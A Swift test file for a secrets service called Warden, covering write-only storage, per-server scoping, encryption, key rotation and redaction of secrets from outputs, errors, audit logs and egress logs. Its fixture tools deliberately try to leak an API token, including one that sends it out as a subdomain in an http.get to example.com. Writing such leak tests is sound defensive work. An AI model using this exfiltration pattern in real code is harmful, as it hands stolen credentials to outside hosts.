import Foundation
import HTTPTypes
import Testing
import WardenDomain
import WardenTestSupport

@testable import WardenStore

@Suite(.enabled(if: TestSandbox.isAvailable, "needs root and user namespaces"))
struct SecretsTests {
    static let leak =
        "def main(echo: str = ''):\n    print('token is', secrets['API_TOKEN'])\n    return {'token': secrets['API_TOKEN'], 'echo': echo, 'names': sorted(secrets.keys())}\n"
    static let raising = "def main():\n    raise ValueError('bad token ' + secrets['API_TOKEN'])\n"

    @Test func valuesAreWriteOnlyScopedToTheirServerAndRedactedEverywhere() async throws {
        let server = try await TestServer.make(sandbox: .real)
        let admin = try await server.key(.admin)
        let auditor = try await server.key(.auditor)
        let value = "tok-\(UUID().uuidString)"
        try await server.run { client in
            let a = try #require(
                try await client.request(.post, "/v1/servers", key: admin, json: #"{"name":"a"}"#).string("id"))
            let b = try #require(
                try await client.request(.post, "/v1/servers", key: admin, json: #"{"name":"b"}"#).string("id"))
            let put = try await client.request(
                .put, "/v1/servers/\(a)/secrets/API_TOKEN", key: admin, body: .object(["value": .string(value)]))
            #expect(put.status == 200)
            #expect(put.string("name") == "API_TOKEN")
            #expect(!put.body.contains(value))
            _ = try await client.request(
                .put, "/v1/servers/\(b)/secrets/OTHER_TOKEN", key: admin, json: #"{"value":"other-server-secret"}"#)
            #expect(
                try await client.request(.put, "/v1/servers/\(a)/secrets/lower", key: admin, json: #"{"value":"x"}"#)
                    .status == 400)
            let listed = try await client.request(.get, "/v1/servers/\(a)/secrets", key: auditor)
            #expect(listed["items"]?.arrayItems.compactMap { $0.objectValue?["name"]?.stringValue } == ["API_TOKEN"])
            #expect(!listed.body.contains(value))

            var runs: [TestServer.Reply] = []
            for (name, code) in [("leak", Self.leak), ("raise", Self.raising)] {
                let toolId = try await client.approvedTool(
                    server: a, key: admin, body: .object(["name": .string(name), "code": .string(code)]))
                let args: JSONValue =
                    name == "leak"
                    ? .object(["arguments": .object(["echo": .string("x\(value)x")])])
                    : .object(["arguments": .object([:])])
                runs.append(try await client.request(.post, "/v1/tools/\(toolId)/executions", key: admin, body: args))
            }
            #expect(runs[0].string("status") == "succeeded")
            #expect(runs[0]["result"]?.objectValue?["token"] == .string("[REDACTED]"))
            #expect(
                runs[0]["result"]?.objectValue?["names"] == .array([.string("API_TOKEN")]),
                "server b's secret must not be visible")
            #expect(runs[1].string("status") == "failed")
            #expect(runs[1]["error"]?.objectValue?["message"] == .string("bad token [REDACTED]"))

            let everything = [
                runs[0].body, runs[1].body,
                try await client.request(.get, "/v1/executions?limit=500", key: auditor).body,
                try await client.request(.get, "/v1/audit-events?limit=500", key: auditor).body,
                try await client.request(.get, "/v1/servers/\(a)", key: admin).body,
            ]
            for body in everything { #expect(!body.contains(value)) }
            let file = try String(
                decoding: Data(contentsOf: server.dataDirectory.appendingPathComponent("warden.db")), as: UTF8.self)
            #expect(!file.contains(value), "the database file holds only ciphertext")

            #expect(try await client.request(.delete, "/v1/servers/\(a)/secrets/API_TOKEN", key: admin).status == 204)
            #expect(try await client.request(.delete, "/v1/servers/\(a)/secrets/API_TOKEN", key: admin).status == 404)
        }
    }
}

@Suite("Secret storage")
struct SecretStorageTests {
    @Test(arguments: TestDatabase.all) func ciphertextMovedToAnotherRowDoesNotDecrypt(_ database: TestDatabase)
        async throws
    {
        let handle = try await TestStore.make(database)
        let store = handle.store
        let box = SecretBox(currentKey: RandomBytes.make(32))
        let a = try await store.createServer(ServerDraft(name: "a", description: "", allowedHosts: []), by: "t")
        let b = try await store.createServer(ServerDraft(name: "b", description: "", allowedHosts: []), by: "t")
        _ = try await store.putSecret(serverId: a.id, name: "ONE", value: "value-one", box: box, by: "t")
        _ = try await store.putSecret(serverId: b.id, name: "TWO", value: "value-two", box: box, by: "t")
        #expect(try await store.secretValues(serverId: a.id, box: box) == ["ONE": "value-one"])
        try await store.database.write { db in
            try db.execute(
                sql:
                    "UPDATE server_secrets SET sealed = (SELECT sealed FROM server_secrets WHERE name = 'ONE') WHERE name = 'TWO'"
            )
        }
        await #expect(throws: SecretError.cannotDecrypt(serverId: b.id, name: "TWO")) {
            _ = try await store.secretValues(serverId: b.id, box: box)
        }
        await handle.cleanup()
    }

    @Test(arguments: TestDatabase.all) func rotationMovesEverySecretAndTheServiceStillReadsThem(
        _ database: TestDatabase
    ) async throws {
        let handle = try await TestStore.make(database)
        let store = handle.store
        let oldKey = RandomBytes.make(32)
        let newKey = RandomBytes.make(32)
        let server = try await store.createServer(ServerDraft(name: "a", description: "", allowedHosts: []), by: "t")
        for n in 0..<5 {
            _ = try await store.putSecret(
                serverId: server.id, name: "S\(n)", value: "v\(n)", box: SecretBox(currentKey: oldKey), by: "t")
        }
        let rotating = SecretBox(currentKey: newKey, oldKey: oldKey)
        #expect(try await store.rotateSecrets(box: rotating, by: "t") == 5)
        #expect(try await store.rotateSecrets(box: rotating, by: "t") == 0)
        let values = try await store.secretValues(serverId: server.id, box: SecretBox(currentKey: newKey))
        #expect(values == Dictionary(uniqueKeysWithValues: (0..<5).map { ("S\($0)", "v\($0)") }))
        await #expect(throws: SecretError.self) {
            _ = try await store.secretValues(serverId: server.id, box: SecretBox(currentKey: oldKey))
        }
        #expect(try await store.verifyAuditChain().ok)
        await handle.cleanup()
    }

    @Test func malformedKeysAreRefusedNamingTheVariable() throws {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("k-\(UUID().uuidString)")
        for bad in ["abc", String(repeating: "g", count: 64), String(repeating: "a", count: 63)] {
            #expect {
                _ = try KeyFile.load(
                    variable: "WARDEN_ENCRYPTION_KEY", file: file, environment: ["WARDEN_ENCRYPTION_KEY": bad],
                    guarding: "x"
                ) { true }
            } throws: { "\($0)".contains("WARDEN_ENCRYPTION_KEY must be exactly 64 hex") }
        }
        let created = try KeyFile.load(variable: "V", file: file, environment: [:], guarding: "x") { true }
        #expect(created.count == 32)
        let mode = try FileManager.default.attributesOfItem(atPath: file.path)[.posixPermissions] as? Int
        #expect(mode == 0o600)
        #expect(try KeyFile.load(variable: "V", file: file, environment: [:], guarding: "x") { false } == created)
        try FileManager.default.removeItem(at: file)
        #expect(throws: KeyFileError.self) {
            _ = try KeyFile.load(variable: "V", file: file, environment: [:], guarding: "x") { false }
        }
    }

    /// The gaps an outside review found: a secret in an object key, in an exception's type name
    /// and in the egress log (the host a tool asked for) is redacted; a secret too short to
    /// redact safely is refused.
    @Test(.enabled(if: TestSandbox.isAvailable, "needs root and user namespaces"))
    func secretsAreRedactedFromKeysErrorTypesAndTheEgressLog() async throws {
        let server = try await TestServer.make(sandbox: .real)
        let admin = try await server.key(.admin)
        let value = "k\(UInt32.random(in: 100_000...999_999))x"
        try await server.run { client in
            let a = try #require(
                try await client.request(
                    .post, "/v1/servers", key: admin, json: #"{"name":"a","allowed_hosts":["api.example.com"]}"#
                ).string("id"))
            let short = try await client.request(
                .put, "/v1/servers/\(a)/secrets/SHORT", key: admin, json: #"{"value":"abc"}"#)
            #expect(short.status == 400 && short.errorCode == "invalid_request", "\(short.body)")
            #expect(
                try await client.request(
                    .put, "/v1/servers/\(a)/secrets/API_TOKEN", key: admin, body: .object(["value": .string(value)])
                ).status == 200)
            let code = """
                def main():
                    t = secrets['API_TOKEN']
                    try:
                        http.get('https://' + t + '.example.com/')
                    except Exception:
                        pass
                    raise type(t, (Exception,), {})('x')

                """
            let toolId = try await client.approvedTool(
                server: a, key: admin, body: .object(["name": "leaky", "code": .string(code)]))
            let run = try await client.request(.post, "/v1/tools/\(toolId)/executions", key: admin, json: "{}")
            #expect(run.string("status") == "failed", "\(run.body)")
            #expect(!run.body.contains(value), "\(run.body)")
            let keyed = "def main():\n    return {secrets['API_TOKEN']: 1}\n"
            let keyedId = try await client.approvedTool(
                server: a, key: admin, body: .object(["name": "keyed", "code": .string(keyed)]))
            let keyedRun = try await client.request(.post, "/v1/tools/\(keyedId)/executions", key: admin, json: "{}")
            #expect(keyedRun["result"] == .object([Redactor.marker: .int(1)]), "\(keyedRun.body)")
            let logged = try await client.request(.get, "/v1/executions?server_id=\(a)", key: admin)
            #expect(logged.status == 200 && !logged.body.contains(value), "\(logged.body)")
            #expect(logged.body.contains("egress"))
        }
    }

    /// Secrets sealed under another key (the encryption key changed without a rotation): the
    /// start-up check names them, and an execution answers 503 with its own code, never 500.
    @Test func secretsUnderAnUnknownKeyAreA503NotA500() async throws {
        let server = try await TestServer.make()
        let admin = try await server.key(.admin)
        let serverRecord = try await server.store.createServer(
            ServerDraft(name: "k", description: "", allowedHosts: []), by: "test")
        let foreign = SecretBox(currentKey: RandomBytes.make(32))
        _ = try await server.store.putSecret(
            serverId: serverRecord.id, name: "API_TOKEN", value: "sealed-elsewhere", box: foreign, by: "test")
        let check = try await server.store.secretKeyCheck(box: server.services.secretBox)
        #expect(check.total == 1 && check.unreadable == 1)
        #expect(
            try await server.store.secretKeyCheck(box: SecretBox(currentKey: RandomBytes.make(32), oldKey: nil))
                .unreadable == 1)
        try await server.run { client in
            let toolId = try #require(
                try await client.request(
                    .post, "/v1/servers/\(serverRecord.id)/tools", key: admin,
                    body: .object(["name": "t", "code": "def main():\n    return 1\n"])
                ).string("id"))
            _ = try await client.request(.post, "/v1/tools/\(toolId)/approve", key: admin, json: #"{"version":1}"#)
            let run = try await client.request(.post, "/v1/tools/\(toolId)/executions", key: admin, json: "{}")
            #expect(run.status == 503 && run.errorCode == "secrets_unavailable", "\(run.status) \(run.body)")
            #expect(run.body.contains("warden secrets rotate"))
        }
    }
}
